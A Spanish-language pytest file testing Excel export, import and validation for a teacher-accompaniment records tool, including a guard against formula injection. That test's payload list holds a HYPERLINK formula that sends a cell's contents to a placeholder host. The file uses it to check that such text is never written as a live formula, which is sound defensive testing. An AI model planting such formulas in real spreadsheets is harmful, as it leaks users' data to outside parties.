"""Excel en los dos sentidos: libro de captura, lectura tolerante, errores con hoja/fila/columna, consolidados."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from collections import Counter
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from pydantic import Field

import formatos
from formatos.catalogo import leer_datos
from formatos.cli import cli
from formatos.entrada import a_excel, cargar, hojas
from formatos.modelos import expediente as modulo_expediente
from formatos.modelos.base import Modelo, Registro
from formatos.modelos.tipos import GRADOS_ESPERADOS, Dni, Fecha, Nivel, Texto
from formatos.recursos import expediente_ejemplo
from tests.conftest import sin_las_del_ejemplo

LIBRO_EJEMPLO = expediente_ejemplo().with_suffix(".xlsx")


def _hoja(libro, nombre):
    hoja = libro[nombre]
    return hoja, {c.value: c.column for c in hoja[1] if c.value}


def _filas(ruta: Path, hoja: str, primera: str | None = None) -> list[dict]:
    """Las filas de una hoja como dicts; los títulos están en la fila 1 o en la que empieza con `primera`."""
    ws = load_workbook(ruta, read_only=True)[hoja]
    filas = list(ws.iter_rows(values_only=True))
    inicio = next(i for i, f in enumerate(filas) if f and f[0] == primera) if primera else 0
    return [dict(zip(filas[inicio], f)) for f in filas[inicio + 1:]]


def _listas(hoja) -> dict[str, str]:
    """Título de la columna → fórmula de su lista desplegable."""
    titulos = {c.column_letter: c.value for c in hoja[1]}
    return {titulos[str(v.sqref).split(":")[0].rstrip("0123456789")]: v.formula1 for v in hoja.data_validations.dataValidation}


# --- ida y vuelta ---------------------------------------------------------------------------------------
def test_json_libro_json_da_el_mismo_expediente(tmp_path, carga_ejemplo):
    datos = a_excel(carga_ejemplo.expediente)
    assert datos == a_excel(carga_ejemplo.expediente), "mismos datos, mismos bytes"
    (tmp_path / "libro.xlsx").write_bytes(datos)
    vuelta = cargar(tmp_path / "libro.xlsx")
    assert sin_las_del_ejemplo(vuelta.problemas) == []
    assert vuelta.expediente == carga_ejemplo.expediente
    assert vuelta.expediente.model_dump() == carga_ejemplo.expediente.model_dump()


def test_el_libro_de_ejemplo_es_el_expediente_de_ejemplo(carga_ejemplo):
    carga = cargar(LIBRO_EJEMPLO)
    assert sin_las_del_ejemplo(carga.problemas) == []
    assert carga.expediente == carga_ejemplo.expediente


def test_exportar_por_la_linea_de_ordenes(tmp_path, carga_ejemplo):
    runner = CliRunner()
    libro, json_ = tmp_path / "libro.xlsx", tmp_path / "vuelta.json"
    r = runner.invoke(cli, ["exportar", str(expediente_ejemplo()), "--a", str(libro)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(cli, ["exportar", str(libro), "--a", str(json_)])
    assert r.exit_code == 0, r.output
    assert cargar(json_).expediente == carga_ejemplo.expediente
    r = runner.invoke(cli, ["exportar", str(libro), "--a", str(json_)])
    assert r.exit_code != 0 and "--sobrescribir" in r.output


# --- el libro de captura --------------------------------------------------------------------------------
def test_captura_en_blanco(tmp_path):
    ruta = tmp_path / "captura.xlsx"
    r = CliRunner().invoke(cli, ["captura", str(ruta), "--ugel", "UGEL Cutervo", "--anio", "2027"])
    assert r.exit_code == 0, r.output
    libro = load_workbook(ruta)
    assert libro.sheetnames[:4] == ["Instrucciones", "Datos generales", "Acompañantes", "Instituciones"]
    assert {"Docentes", "Visitas", "GIA", "Valoraciones", "Valoraciones del directivo"} <= set(libro.sheetnames)
    generales = {f[0]: f[1] for f in libro["Datos generales"].iter_rows(min_row=2, values_only=True)}
    assert generales["Año"] == 2027 and generales["Nombre de la UGEL"] == "UGEL Cutervo"

    docentes, cols = _hoja(libro, "Docentes")
    assert docentes.freeze_panes == "A2"
    assert docentes.cell(1, cols["DNI"]).comment is not None
    letra = lambda titulo: docentes.cell(1, cols[titulo]).column_letter  # noqa: E731
    assert docentes.column_dimensions[letra("DNI")].number_format == "@"
    assert docentes.column_dimensions[letra("Código modular")].number_format == "@"
    assert docentes.column_dimensions[letra("Apellidos")].width >= 15
    listas = _listas(docentes)
    assert listas["Condición"] == '"nombrado,contratado"'
    assert listas["¿Es director?"] == '"sí,no"'
    assert listas["DNI del AP"] == "'Acompañantes'!$A$2:$A$2000"
    assert listas["Código modular"] == "'Instituciones'!$A$2:$A$2000"
    listas = _listas(libro["Valoraciones"])
    assert listas["Nivel"] == '"I,II,III,IV"'
    assert listas["Desempeño"] == '"D19,D22,D25,D11,D15,D1,D23,D4"'
    assert listas["Código de la visita"] == "'Visitas'!$A$2:$A$2000"
    listas = _listas(libro["Visitas"])
    assert listas["DNI del docente"] == "'Docentes'!$A$2:$A$2000"
    assert "asesoría" in listas["Tipo"]
    instrucciones = " ".join(str(c.value) for fila in libro["Instrucciones"].iter_rows() for c in fila if c.value)
    assert "dd/mm/aaaa" in instrucciones and "formatos validar" in instrucciones

    r = CliRunner().invoke(cli, ["captura", str(ruta)])
    assert r.exit_code != 0 and "--sobrescribir" in r.output


def _llenar_como_usuario(ruta: Path, datos: dict) -> None:
    """Llena un libro de captura en blanco celda por celda, como lo haría una persona en Excel."""
    libro = load_workbook(ruta)
    generales = libro["Datos generales"]
    filas = {generales.cell(i, 1).value: i for i in range(2, generales.max_row + 1)}
    ugel = datos["ugel"]
    for titulo, valor in [("Año", str(datos["anio"])), ("Nombre de la UGEL", ugel["nombre"]), ("DRE o GRE", ugel["dre"]),
                          ("Región", ugel["region"]), ("Sede (lugar de firma)", ugel["sede"] + "  "),
                          ("Jefe(a) de AGP - DNI", int(ugel["jefe_agp"]["dni"])),
                          ("Jefe(a) de AGP - Nombres", ugel["jefe_agp"]["nombres"]),
                          ("Jefe(a) de AGP - Apellidos", ugel["jefe_agp"]["apellidos"]),
                          ("Jefe(a) de AGP - Cargo", ugel["jefe_agp"]["cargo"]),
                          ("Siglas de los informes", ugel["siglas_informe"])]:
        generales.cell(filas[titulo], 2, valor)

    def poner(hoja, registros, columnas):
        ws, cols = _hoja(libro, hoja)
        for i, valores in enumerate(registros, start=2):
            for titulo, valor in zip(columnas, valores):
                ws.cell(i, cols[titulo], valor)

    poner("Acompañantes", [(a["dni"], a["nombres"], a["apellidos"], a["telefono"], a["correo"]) for a in datos["acompanantes"]],
          ["DNI", "Nombres", "Apellidos", "Teléfono", "Correo"])
    poner("Instituciones", [(i["codigo_modular"], i["nombre"], i["tipo"].upper(), i["centro_poblado"], i["distrito"],
                             i["provincia"], i["region"], i["ubigeo"]) for i in datos["instituciones"]],
          ["Código modular", "Nombre de la I. E.", "Tipo", "Centro poblado", "Distrito", "Provincia", "Región", "Ubigeo"])
    poner("Docentes", [(int(d["dni"]), d["nombres"], d["apellidos"], d["codigo_modular"], d["dni_acompanante"],
                        " y ".join(f"{g}.°" for g in d["grados"]), d["condicion"].capitalize(),
                        "Sí" if d["es_director"] else "no") for d in datos["docentes"]],
          ["DNI", "Nombres", "Apellidos", "Código modular", "DNI del AP", "Grados", "Condición", "¿Es director?"])
    dia = lambda texto: datetime.fromisoformat(texto)  # noqa: E731 - fecha de Excel
    texto = lambda iso: f"{iso[8:10]}/{iso[5:7]}/{iso[:4]}"  # noqa: E731 - fecha escrita como texto
    poner("Visitas", [(v["id"], v["dni_docente"], v["tipo"].replace("í", "i").title(), dia(v["fecha"]), str(v["dias"]),
                       texto(v["fecha_segundo_dia"]) if "fecha_segundo_dia" in v else None, v["area_curricular"],
                       v["proposito_sesion"], "2", 2, str(v["horas_asesoria"])) for v in datos["visitas"]],
          ["Código de la visita", "DNI del docente", "Tipo", "Fecha", "Días", "Fecha del 2.º día", "Área curricular",
           "Propósito de la sesión", "Horas de observación", "Horas de preparación", "Horas de asesoría"])
    poner("GIA", [(g["id"], g["tipo"], g["dni_acompanante"], texto(g["fecha"]), g["hora_inicio"].lstrip("0"), g["horas"],
                   g["tema"], ", ".join(g["participantes"])) for g in datos["gias"]],
          ["Código del GIA", "Tipo", "DNI del AP", "Fecha", "Hora de inicio", "Horas", "Tema", "Participantes (DNI)"])
    filas = []
    for v in datos["valoraciones"]:
        for k, d in enumerate(v["desempenos"]):
            filas.append((v["id_visita"] if k == 0 else None, texto(v["fecha_termino_mes"]) if k == 0 else None,
                          d["codigo"].lower(), d["nivel_alcanzado"].lower(), "sí" if d["atendido"] else "NO",
                          d["evidencias"] or None, d["producto_asesoria"] or None))
    poner("Valoraciones", filas, ["Código de la visita", "Fecha de valoración de D1 y D4 (término del mes)", "Desempeño",
                                  "Nivel", "¿Atendido en el mes?", "Evidencias", "Producto de la asesoría"])
    filas = [(v["id"], v["dni_director"], v.get("id_gia"), v.get("id_visita"), d["codigo"], d["evidencias"],
              d["necesidades_formativas"]) for v in datos["valoraciones_directivo"] for d in v["desempenos"]]
    poner("Valoraciones del directivo", filas, ["Código de la valoración", "DNI del director", "Código del GIA",
                                                "Código de la visita", "Desempeño", "Evidencias", "Necesidades formativas"])
    docentes = libro["Docentes"]
    docentes.cell(1, docentes.max_column + 2, "Mis notas")  # columna propia del usuario
    docentes.cell(2, docentes.max_column, "llamar en junio")
    libro.save(ruta)


def test_captura_llenada_genera_los_mismos_documentos_que_el_json(tmp_path, datos_ejemplo):
    ruta = tmp_path / "captura.xlsx"
    ruta.write_bytes(a_excel(None))
    _llenar_como_usuario(ruta, datos_ejemplo)
    carga = cargar(ruta)
    assert [str(p) for p in sin_las_del_ejemplo(carga.problemas)] == [
        "advertencia: Hoja Docentes, columna «Mis notas»: no es una columna de esta hoja: sus datos no se usan; "
        "las columnas de cada hoja están en la hoja «Instrucciones»"]
    resumen = formatos.generar(carga.expediente, tmp_path / "salida", formatos=["matriz-docente", "matriz-directivo"])
    assert len(resumen.resultados) == len(datos_ejemplo["valoraciones"]) + len(datos_ejemplo["valoraciones_directivo"])
    assert not resumen.fallidos
    # El libro llenado a mano no trae los talleres, que la matriz cita (D1 y D4 se valoran con el taller del mes).
    sin_talleres = modulo_expediente.validar_expediente({**datos_ejemplo, "talleres": []}).expediente
    json = formatos.generar(sin_talleres, tmp_path / "json", formatos=["matriz-docente", "matriz-directivo"])
    del_json = {r.ruta.relative_to(tmp_path / "json"): r.ruta.read_bytes() for r in json.resultados}
    del_libro = {r.ruta.relative_to(tmp_path / "salida"): r.ruta.read_bytes() for r in resumen.resultados}
    assert del_libro == del_json


def test_lectura_tolerante(tmp_path, carga_ejemplo):
    libro = load_workbook(io.BytesIO(a_excel(carga_ejemplo.expediente)))
    docentes, cols = _hoja(libro, "Docentes")
    docentes.cell(2, cols["DNI"]).value  # la fila 2 es la primera docente del ejemplo
    docentes.cell(2, cols["Nombres"], "  Rosa Elena   ")
    docentes.cell(2, cols["Grados"], "1,2;3 4, 5 y 6")
    valoraciones, cols = _hoja(libro, "Valoraciones")
    valoraciones.cell(2, cols["Nivel"], " nivel ii ")
    valoraciones.cell(2, cols["Fecha de valoración de la visita"], "  29/05/2026 ")
    visitas, cols = _hoja(libro, "Visitas")
    visitas.cell(3, cols["Horas de asesoría"], "2,5")
    visitas.cell(3, cols["Tipo"], "DIAGNOSTICA")
    for fila in range(visitas.max_row + 1, visitas.max_row + 6):  # filas vacías al final (con espacios)
        visitas.cell(fila, 1, "   ")
    gia = libro["GIA"]
    gia.insert_rows(1, 2)  # el usuario puso un título encima de la tabla
    gia.cell(1, 1, "GIA del año")
    gia.cell(5, 5, "cuatro")
    libro.save(tmp_path / "libro.xlsx")
    carga = cargar(tmp_path / "libro.xlsx")
    assert [(p.ubicacion, p.mensaje) for p in carga.errores] == [
        ("Hoja GIA, fila 5, columna Horas", 'debe ser un número (se recibió "cuatro")')]
    exp = carga.expediente
    assert exp.docentes[0].nombres == "Rosa Elena" and exp.docentes[0].grados == [1, 2, 3, 4, 5, 6]
    assert exp.valoraciones[0].fecha == date(2026, 5, 29)
    d19 = next(d for d in exp.valoraciones[0].desempenos if d.codigo == "D19")
    assert d19.nivel_alcanzado == "II"
    assert exp.visitas[1].horas_asesoria == 2.5 and exp.visitas[1].tipo == "diagnóstica"
    assert len(exp.visitas) == len(carga_ejemplo.expediente.visitas)
    assert len(exp.gias) == len(carga_ejemplo.expediente.gias) - 1


def test_un_archivo_que_no_es_libro(tmp_path, carga_ejemplo):
    for nombre, datos in [("json.xlsx", expediente_ejemplo().read_bytes()), ("vacio.xlsx", b""),
                          ("word.xlsx", (Path(formatos.__file__).parent / "datos" / "catalogo.toml").read_bytes())]:
        (tmp_path / nombre).write_bytes(datos)
        carga = cargar(tmp_path / nombre)
        assert carga.expediente is None
        assert [str(p) for p in carga.problemas] == [
            f"{nombre}: no es un libro de Excel (.xlsx) válido; ábralo en Excel y guárdelo de nuevo como «Libro de Excel»"]
    libro = load_workbook(LIBRO_EJEMPLO)
    del libro["Datos generales"]
    libro.save(tmp_path / "sin_datos.xlsx")
    carga = cargar(tmp_path / "sin_datos.xlsx")
    assert carga.expediente is None
    assert str(carga.problemas[0]) == "Hoja Datos generales: falta la hoja «Datos generales» (año y UGEL)"


# --- diez errores sembrados -------------------------------------------------------------------------------
def test_diez_errores_con_hoja_fila_y_columna(tmp_path, carga_ejemplo):
    libro = load_workbook(LIBRO_EJEMPLO)
    for imagen in LIBRO_EJEMPLO.parent.glob("*.png"):  # el croquis del plan anual va junto al libro
        shutil.copy(imagen, tmp_path)
    esperados = []

    def agregar(nombre, valores, columna, mensaje):
        ws, cols = _hoja(libro, nombre)
        fila = ws.max_row + 1
        for titulo, valor in valores.items():
            ws.cell(fila, cols[titulo], valor)
        esperados.append((f"Hoja {nombre}, fila {fila}, columna {columna}", mensaje))
        return fila

    def cambiar(nombre, buscar, columna, valor, mensaje):
        ws, cols = _hoja(libro, nombre)
        fila = next(i for i in range(2, ws.max_row + 1) if buscar(lambda t: ws.cell(i, cols[t]).value))
        ws.cell(fila, cols[columna], valor)
        esperados.append((f"Hoja {nombre}, fila {fila}, columna {columna}", mensaje))

    docente = {"Nombres": "Ana", "Apellidos": "Prueba", "Código modular": "0598774", "DNI del AP": "43098127",
               "Grados": "1, 2", "Condición": "nombrado", "¿Es director?": "no"}
    # 1. DNI de 7 dígitos
    agregar("Docentes", {**docente, "DNI": "4587123"}, "DNI", 'debe tener 8 dígitos del 0 al 9 (se recibió "4587123")')
    # 2. condición que no existe
    agregar("Docentes", {**docente, "DNI": "70000002", "Condición": "eventual"}, "Condición", "debe ser uno de")
    # 3. visita a un docente que no existe
    agregar("Visitas", {"Código de la visita": "V-X", "DNI del docente": "99999999", "Tipo": "asesoría",
                        "Fecha": "15/05/2026", "Área curricular": "Matemática", "Propósito de la sesión": "Contar"},
            "DNI del docente", '"99999999" no existe en la hoja Docentes')
    # 4. fecha imposible (visita de abril, sin valoración)
    cambiar("Visitas", lambda v: v("Tipo") == "recojo de necesidades" and v("DNI del docente") == "45871236",
            "Fecha", "31/02/2026", 'no es una fecha válida (se recibió "31/02/2026")')
    # 5. tipo de visita desconocido
    cambiar("Visitas", lambda v: v("Tipo") == "recojo de necesidades" and v("DNI del docente") == "40256981",
            "Tipo", "visita rara", "debe ser uno de")
    # 6. nivel "5"
    cambiar("Valoraciones", lambda v: v("Código de la visita") == "V-2026-07-47120385" and v("Desempeño") == "D22",
            "Nivel", "5", 'debe ser un nivel I, II, III o IV (se recibió "5")')
    # 7. horas que no son número (GIA con docentes: nada depende de él)
    cambiar("GIA", lambda v: v("Código del GIA") == "GIA-D-1-08", "Horas", "cuatro", "debe ser un número")
    # 8. fila duplicada
    ws, cols = _hoja(libro, "Acompañantes")
    fila = agregar("Acompañantes", {t: ws.cell(2, c).value for t, c in cols.items()}, "DNI", "")
    esperados[-1] = (esperados[-1][0], '"41526378" está repetido: ya figura en la fila 2')
    # 9. código modular de 5 dígitos
    agregar("Instituciones", {"Código modular": "12345", "Nombre de la I. E.": "N.° 1", "Tipo": "unidocente",
                              "Centro poblado": "X", "Distrito": "X", "Provincia": "X", "Región": "X"},
            "Código modular", "debe tener 7 dígitos")
    # 10. falta una columna obligatoria
    ws, cols = _hoja(libro, "Valoraciones del directivo")
    ws.delete_cols(cols["Evidencias"])
    esperados.append(("Hoja Valoraciones del directivo, columna Evidencias", "falta esta columna obligatoria"))
    assert fila > 2
    libro.save(tmp_path / "errores.xlsx")

    carga = cargar(tmp_path / "errores.xlsx")
    encontrados = [(p.ubicacion, p.mensaje) for p in carga.errores]  # las advertencias del protocolo que resultan, aparte
    assert len(encontrados) == 10, "\n".join(map(str, carga.problemas))
    for ubicacion, mensaje in esperados:
        assert any(u == ubicacion and mensaje in m for u, m in encontrados), (ubicacion, mensaje, encontrados)
    assert str(carga.problemas[0]).startswith("Hoja ")

    exp, base = carga.expediente, carga_ejemplo.expediente
    assert len(exp.docentes) == len(base.docentes) and len(exp.acompanantes) == 2
    assert len(exp.visitas) == len(base.visitas) - 2
    assert len(exp.valoraciones) == len(base.valoraciones) - 1
    assert len(exp.gias) == len(base.gias) - 1 and exp.valoraciones_directivo == []
    resumen = formatos.generar(exp, tmp_path / "salida", formatos=["matriz-docente"], problemas=carga.problemas)
    assert len(resumen.resultados) == len(base.valoraciones) - 1 and not resumen.fallidos
    reporte = resumen.reporte_errores.read_text("utf-8")
    assert "Hoja Docentes, fila 16, columna DNI: debe tener 8 dígitos" in reporte

    r = CliRunner().invoke(cli, ["validar", str(tmp_path / "errores.xlsx")])
    assert r.exit_code == 1 and "Hoja Valoraciones, fila" in r.output


# --- una sección nueva funciona sin tocar el código de Excel ------------------------------------------------
class Respuesta(Modelo):
    pregunta: Texto
    nivel: Nivel


class Reajuste(Modelo):
    fecha: Fecha
    motivo: Texto


class TallerPrueba(Registro):
    """Sección inventada para la prueba: con listas de submodelos y referencias."""

    clave = "id"
    referencias = {"dni_responsable": "acompanantes"}
    id: Texto
    dni_responsable: Dni
    fecha: Fecha
    mes: int = Field(ge=3, le=12)
    asistentes: list[Dni] = Field(default_factory=list)
    respuestas: list[Respuesta] = Field(default_factory=list)
    reajustes: list[Reajuste] = Field(default_factory=list)


class EncuestaPrueba(Registro):
    """Sin clave: sus hojas se unen por el número de registro («N.°»)."""

    titulo: Texto
    respuestas: list[Respuesta]
    reajustes: list[Reajuste] = Field(default_factory=list)


class ExpedienteConTaller(modulo_expediente.Expediente):
    talleres_prueba: list[TallerPrueba] = Field(default_factory=list)
    encuestas_prueba: list[EncuestaPrueba] = Field(default_factory=list)


@pytest.fixture
def con_seccion_nueva(monkeypatch):
    monkeypatch.setattr(modulo_expediente, "Expediente", ExpedienteConTaller)
    monkeypatch.setattr(hojas, "Expediente", ExpedienteConTaller)
    hojas.tablas.cache_clear()
    hojas.columnas_cabecera.cache_clear()
    yield
    hojas.tablas.cache_clear()
    hojas.columnas_cabecera.cache_clear()


def test_seccion_nueva_sin_cambiar_el_codigo(tmp_path, datos_ejemplo, con_seccion_nueva):
    taller = {"id": "T1", "dni_responsable": "41526378", "fecha": "2026-07-20", "mes": 7, "asistentes": ["45871236", "40256981"],
              "respuestas": [{"pregunta": "¿Logística?", "nivel": "III"}, {"pregunta": "¿Expectativas?", "nivel": "IV"}],
              "reajustes": [{"fecha": "2026-08-01", "motivo": "Cambio de local"}]}
    encuesta = {"titulo": "Satisfacción", "respuestas": [{"pregunta": "¿Útil?", "nivel": "IV"},
                                                          {"pregunta": "¿Claro?", "nivel": "III"}],
                "reajustes": [{"fecha": "2026-08-01", "motivo": "Otro"}]}
    carga = modulo_expediente.validar_expediente({**datos_ejemplo, "talleres_prueba": [taller], "encuestas_prueba": [encuesta]})
    assert sin_las_del_ejemplo(carga.problemas) == [] and len(carga.expediente.talleres_prueba) == 1
    ruta = tmp_path / "libro.xlsx"
    ruta.write_bytes(a_excel(carga.expediente))
    nombres = load_workbook(ruta).sheetnames
    assert "Talleres prueba" in nombres and "Talleres prueba - Reajustes" in nombres
    assert _filas(ruta, "Talleres prueba")[1]["Asistentes"] == "45871236, 40256981"
    listas = _listas(load_workbook(ruta)["Talleres prueba"])
    assert listas["Mes"] == '"3,4,5,6,7,8,9,10,11,12"' and listas["Nivel"] == '"I,II,III,IV"'
    assert listas["DNI del responsable"] == "'Acompañantes'!$A$2:$A$2000"
    assert [c.value for c in load_workbook(ruta)["Talleres prueba - Reajustes"][1]] == ["Código", "Fecha", "Motivo"]
    encuesta = _filas(ruta, "Encuestas prueba")
    assert [(f["N.°"], f["Pregunta"]) for f in encuesta] == [(1, "¿Útil?"), (1, "¿Claro?")]
    assert _filas(ruta, "Encuestas prueba - Reajustes") == [{"N.°": 1, "Fecha": datetime(2026, 8, 1), "Motivo": "Otro"}]
    vuelta = cargar(ruta)
    assert sin_las_del_ejemplo(vuelta.problemas) == [] and vuelta.expediente == carga.expediente

    libro = load_workbook(ruta)
    ws, cols = _hoja(libro, "Talleres prueba")
    ws.cell(3, cols["Nivel"], "7")
    libro.save(ruta)
    (problema,) = sin_las_del_ejemplo(cargar(ruta).problemas)
    assert problema.ubicacion == "Hoja Talleres prueba, fila 3, columna Nivel"


# --- fórmulas: un texto de los datos nunca se vuelve fórmula ---------------------------------------------
PELIGROSOS = ['=HYPERLINK("http://ejemplo.invalido/?x="&A1,"clic")', "=1+1", "+51 976 543 210", "-5", "@SUMA(A1)"]


def _sin_formulas(datos: bytes) -> list:
    libro = load_workbook(io.BytesIO(datos))
    return [c.coordinate for ws in libro.worksheets for fila in ws.iter_rows() for c in fila if c.data_type == "f"]


def test_textos_que_parecen_formulas_quedan_como_texto(tmp_path, datos_ejemplo):
    datos = {**datos_ejemplo, "acompanantes": [dict(a) for a in datos_ejemplo["acompanantes"]]}
    datos["acompanantes"][0].update(nombres=PELIGROSOS[0], apellidos=PELIGROSOS[1], telefono=PELIGROSOS[2],
                                    correo=PELIGROSOS[4])
    datos["valoraciones"] = [dict(v) for v in datos_ejemplo["valoraciones"]]
    datos["valoraciones"][0]["desempenos"] = [dict(d, evidencias=PELIGROSOS[3] if d["atendido"] else "")
                                              for d in datos_ejemplo["valoraciones"][0]["desempenos"]]
    exp = modulo_expediente.validar_expediente(datos).expediente
    libro = a_excel(exp)
    assert _sin_formulas(libro) == []
    ws = load_workbook(io.BytesIO(libro))["Acompañantes"]
    assert [ws.cell(2, j).value for j in range(2, 6)] == [PELIGROSOS[0], PELIGROSOS[1], PELIGROSOS[2], PELIGROSOS[4]]
    (tmp_path / "l.xlsx").write_bytes(libro)
    assert cargar(tmp_path / "l.xlsx").expediente == exp

    resumen = formatos.generar(exp, tmp_path / "salida", formatos=["consolidado-valoraciones"])
    for r in resumen.resultados:
        assert _sin_formulas(r.ruta.read_bytes()) == []
    filas = _filas(next(r.ruta for r in resumen.resultados if "UGEL" in r.ruta.name), "Valoraciones", "AP")
    assert f"{PELIGROSOS[1]}, {PELIGROSOS[0]}" in {f["AP"] for f in filas}
    assert PELIGROSOS[3] in {f["Evidencias"] for f in filas}


# --- consolidados ---------------------------------------------------------------------------------------
def _consolidado(demo, formato, nombre):
    return next(r.ruta for r in demo.resultados if r.formato == formato and nombre in str(r.ruta))


def _valoraciones_json(datos: dict) -> dict[str, list[tuple[str, dict]]]:
    """Por docente: (fecha de la matriz, tipo de visita, niveles por desempeño), en orden, calculado desde el JSON."""
    visitas = {v["id"]: v for v in datos["visitas"]}
    por_docente: dict[str, list] = {}
    for v in datos["valoraciones"]:
        visita = visitas[v["id_visita"]]
        fecha = v.get("fecha") or visita.get("fecha_segundo_dia") or visita["fecha"]
        niveles = {d["codigo"]: d["nivel_alcanzado"] for d in v["desempenos"]}
        por_docente.setdefault(visita["dni_docente"], []).append((fecha, visita["tipo"], niveles))
    return {k: sorted(v, key=lambda x: x[0]) for k, v in por_docente.items()}


def test_consolidado_de_valoraciones_de_la_ugel(demo, datos_ejemplo):
    ruta = _consolidado(demo, "consolidado-valoraciones", "UGEL San Marcos")
    libro = load_workbook(ruta)
    assert libro.sheetnames == ["Inicio y término", "Logro por mes", "Niveles por mes", "Valoraciones"]
    detalle = libro["Valoraciones"]
    (tabla,) = detalle.tables.values()
    n = sum(len(v["desempenos"]) for v in datos_ejemplo["valoraciones"])
    assert tabla.ref == f"A5:S{5 + n}"
    filas = _filas(ruta, "Valoraciones", "AP")
    assert len(filas) == n
    assert Counter(f["Nivel"] for f in filas) == Counter(
        d["nivel_alcanzado"] for v in datos_ejemplo["valoraciones"] for d in v["desempenos"])
    primera = filas[0]
    assert primera["DNI"] == "45871236" and primera["Docente"] == "Quispe Mamani, Rosa Elena"
    assert primera["I. E."] == "N.° 82145" and primera["Código modular"] == "0523461"
    reglas = [r for rango in detalle.conditional_formatting for r in rango.rules]
    assert sorted(r.formula[0] for r in reglas) == ['"I"', '"II"', '"III"', '"IV"']

    por_docente = _valoraciones_json(datos_ejemplo)
    resumen = libro["Inicio y término"]
    encabezado = next(i for i in range(1, 10) if resumen.cell(i, 1).value == "Código")
    titulos = [c.value for c in resumen[encabezado]]
    for i in range(encabezado + 1, encabezado + 9):
        codigo = resumen.cell(i, 1).value
        fila = dict(zip(titulos, (c.value for c in resumen[i])))
        inicio = Counter(next(x for x in v if x[1] == "diagnóstica")[2][codigo] for v in por_docente.values())
        termino = Counter(v[-1][2][codigo] for v in por_docente.values())
        for nivel in ("I", "II", "III", "IV"):
            assert fila[f"Inicio {nivel}"] == inicio[nivel] and fila[f"Término {nivel}"] == termino[nivel], (codigo, nivel)

    mensual = libro["Niveles por mes"]
    filas_mes = [f for f in mensual.iter_rows(values_only=True) if f[0] == "Agosto" and f[1] == "D22"]
    (agosto,) = [f for f in filas_mes if len([x for x in f if x is not None]) >= 7]
    ultimas = [[x for x in v if x[0][5:7] == "08"][-1][2]["D22"] for v in por_docente.values()]
    assert list(agosto[2:8]) == [ultimas.count(n) for n in ("I", "II", "III", "IV")] + [len(ultimas), 0]

    with zipfile.ZipFile(ruta) as z:
        graficos = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(graficos) == 3
        assert all(b"<barChart>" in z.read(g) for g in graficos)
        assert b"2000-01-01" in z.read("docProps/core.xml")


def test_consolidado_por_ap_solo_con_sus_docentes(demo, datos_ejemplo):
    ap = datos_ejemplo["acompanantes"][1]
    ruta = _consolidado(demo, "consolidado-valoraciones", ap["apellidos"])
    suyos = {d["dni"] for d in datos_ejemplo["docentes"] if d["dni_acompanante"] == ap["dni"]}
    filas = _filas(ruta, "Valoraciones", "AP")
    assert {f["DNI"] for f in filas} == suyos
    assert {f["AP"] for f in filas} == {f"{ap['apellidos']}, {ap['nombres']}"}


def test_consolidado_del_protocolo(demo, datos_ejemplo):
    ruta = _consolidado(demo, "consolidado-protocolo", "protocolo")
    libro = load_workbook(ruta)
    assert libro.sheetnames == ["Por AP", "Por docente", "Visitas", "Por debajo del protocolo"]
    protocolo = leer_datos("protocolo.toml")  # el ejemplo usa el protocolo por omisión
    assert "protocolo" not in datos_ejemplo
    meses_visita = sum(1 for m in protocolo["meses"] if m.get("dias_visita"))
    meses_gia = sum(1 for m in protocolo["meses"] if m.get("gia_docentes"))
    filas = _filas(ruta, "Por docente", "AP")

    def fila(dni, actividad):
        return next(f for f in filas if f["DNI"] == dni and f["Actividad"] == actividad)

    for d in datos_ejemplo["docentes"]:
        visitas = [v for v in datos_ejemplo["visitas"] if v["dni_docente"] == d["dni"]]
        f = fila(d["dni"], "Visitas en aula con asesoría personalizada")
        assert (f["Programado"], f["Ejecutado"]) == (meses_visita * protocolo["visitas_por_mes"], len(visitas))
        assert f["Avance"] == len(visitas) / (meses_visita * protocolo["visitas_por_mes"])
        horas = sum(g["horas"] for g in datos_ejemplo["gias"] if g["tipo"] == "docentes" and d["dni"] in g["participantes"])
        f = fila(d["dni"], "GIA con docentes")
        assert (f["Unidad"], f["Programado"], f["Ejecutado"]) == ("horas", meses_gia * protocolo["gia_docentes_horas_minimas"], horas)
        talleres = sum(1 for t in datos_ejemplo["talleres"] if d["dni"] in t["asistentes"])
        assert fila(d["dni"], "Talleres de actualización docente")["Ejecutado"] == talleres
    directores = {f["DNI"] for f in filas if f["Actividad"] == "GIA con directores"}
    assert directores == {d["dni"] for d in datos_ejemplo["docentes"] if d["es_director"]}
    por_ap = _filas(ruta, "Por AP", "AP")
    for ap in datos_ejemplo["acompanantes"]:
        suyos = [d["dni"] for d in datos_ejemplo["docentes"] if d["dni_acompanante"] == ap["dni"]]
        f = next(f for f in por_ap if f["AP"].startswith(ap["apellidos"])
                 and f["Actividad"] == "Visitas en aula con asesoría personalizada")
        assert f["Ejecutado"] == sum(1 for v in datos_ejemplo["visitas"] if v["dni_docente"] in suyos)
        assert f["Docentes"] == len(suyos)
    # Las horas de visita: la observación corta de Ruth Aliaga (octubre) no cuenta como visita completa.
    ruth = next(d for d in datos_ejemplo["docentes"] if d["dni"] == "49900112")
    suyas = [v for v in datos_ejemplo["visitas"] if v["dni_docente"] == ruth["dni"] and v["tipo"] != "recojo de necesidades"]
    f = fila(ruth["dni"], "Visitas con las horas mínimas del protocolo")
    assert (f["Programado"], f["Ejecutado"]) == (meses_visita - 1, len(suyas) - 1)
    f = fila(ruth["dni"], "Horas de visita (observación, preparación y asesoría)")
    assert (f["Programado"], f["Ejecutado"]) == ((meses_visita - 1) * 6, len(suyas) * 6 - 0.5)
    visitas = {f["Docente"]: f for f in _filas(ruta, "Visitas", "Docente")}
    assert visitas[f"{ruth['apellidos']}, {ruth['nombres']}"]["Con las horas mínimas"] == len(suyas) - 1
    faltas = _filas(ruta, "Por debajo del protocolo", "Fecha")
    assert [f["Qué"] for f in faltas] == ["Segundo Ermitaño Vásquez Chilón",
                                         f"visita V-2026-10-49900112 a Ruth Noemí Aliaga Ñontol ({suyas[-2]['fecha'][8:]}/10/2026)"]
    por_ap_horas = {f["Actividad"] for f in _filas(ruta, "Por AP", "AP")}
    assert {"Horas de observación", "Horas de preparación del diálogo reflexivo",
            "Horas de asesoría (3 h si es director)", "Horas de GIA con directores"} <= por_ap_horas
    reglas = [r for rango in libro["Por docente"].conditional_formatting for r in rango.rules]
